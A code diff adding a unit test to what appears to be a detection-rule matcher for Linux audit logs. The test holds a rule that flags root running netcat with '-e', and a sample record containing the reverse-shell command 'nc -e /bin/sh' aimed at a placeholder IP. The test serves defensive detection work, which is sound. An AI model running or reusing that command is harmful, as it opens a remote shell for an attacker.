@@ -56,6 +56,19 @@ TEST(Matcher, FieldsUnderOtherNames) {
   EXPECT_FALSE(both.matches(record));
 }
 
+TEST(Matcher, ProcessesOfTheLinuxAuditLog) {
+  BothWays both("title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
+                "  s: {Image|endswith: /nc, CommandLine|contains: ' -e ', User: root}\n  condition: s\n");
+  event::LogRecord record;
+  record.origin = {"linux", "auditd", "", 0, "process_creation"};
+  record.add("exe", "/usr/bin/nc");
+  record.add("proctitle", "nc -e /bin/sh 203.0.113.9");
+  record.add("UID", "root");
+  EXPECT_TRUE(both.matches(record));
+  record.origin.category = "";
+  EXPECT_FALSE(both.matches(record)) << "another kind of audit record";
+}
+
 TEST(Matcher, ExplainsWhatMatched) {
   BothWays both(rule_around("  sel: {F|contains: [abc, xyz]}\n  other: {G: 1}\n  not_this: {H: 1}\n"
                             "  condition: (sel or other) and not not_this\n"));
